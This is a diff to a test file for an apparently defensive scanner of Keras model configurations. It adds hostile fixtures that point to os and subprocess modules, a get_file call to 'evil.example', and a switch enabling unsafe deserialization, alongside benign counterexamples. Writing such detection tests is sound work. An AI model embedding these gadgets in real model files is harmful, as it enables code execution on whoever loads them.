@@ -86,6 +86,13 @@ HOSTILE: dict[str, tuple[str, Any]] = {
         },
     ),
     "gadget in a loss": ("SEC002", {"compile_config": {"loss": function("os", "system")}}),
+    "module of a function": ("SEC002", layer("Dense", {"units": 1, "fn_module": "subprocess"})),
+    "module of a shape": ("SEC002", layer("Lambda", {"function": "f", "output_shape_module": "os"})),
+    "get_file by name": ("SEC002", layer("Dense", {"fn": "get_file", "args": ["https://evil.example/x"]})),
+    "the switch by name": (
+        "SEC002",
+        layer("Model", {"metadata": {"loader": "keras.config.enable_unsafe_deserialization"}}),
+    ),
     "look-alike of Keras": ("SEC002", layer("Dense", {}, module="keras/../os", registered_name="x")),
     "function name that is no word": ("SEC002", function("builtins", {"a": 1})),
     "torch": ("SEC010", layer("TorchModuleWrapper", {"module": "gASV"})),
@@ -136,6 +143,8 @@ INNOCENT: dict[str, Any] = {
     "policy": layer("DTypePolicy", {"name": "mixed_float16"}, module="keras", registered_name=None),
     "built-in function": layer("Dense", {"activation": function("builtins", "relu")}),
     "activation function": layer("Dense", {"activation": function("keras.activations", "gelu")}),
+    "a layer of that name": layer("Dense", {"name": "get_file", "units": 1}),
+    "module of a script": layer("Dense", {"units": 1, "module": "__main__", "output_shape_module": None}),
     "words": layer("StringLookup", {"vocabulary": ["/etc/passwd", "os.system", "c"]}),
     "no vocabulary": layer("StringLookup", {"vocabulary": None}),
     "operations": layer("TFOpLambda", {"name": "m", "function": "math.multiply"}),
@@ -187,9 +196,11 @@ def test_innocent_configurations_are_clean(name: str) -> None:
         layer("GroupNorm", {}, module="tensorflow_addons.layers", registered_name="Addons>GroupNorm"),
         layer("Lambda", {"function": "scale", "function_type": "function", "module": "__main__"}),
         {"compile_config": {"loss": function("my.losses", "dice")}},
+        layer("Dense", {"units": 1}, registered_name="mine>Dense"),
+        layer("Dense", {"units": 1, "fn_module": "my_package.layers"}),
         layer("KerasLayer", {"handle": "https://tfhub.dev/x/1"}),
     ],
-    ids=["own class", "addons", "named function", "own loss", "hub"],
+    ids=["own class", "addons", "named function", "own loss", "registered", "own module", "hub"],
 )
 def test_what_needs_its_authors_code_is_a_warning(value: Any) -> None:
     findings = scan_value(value, "")
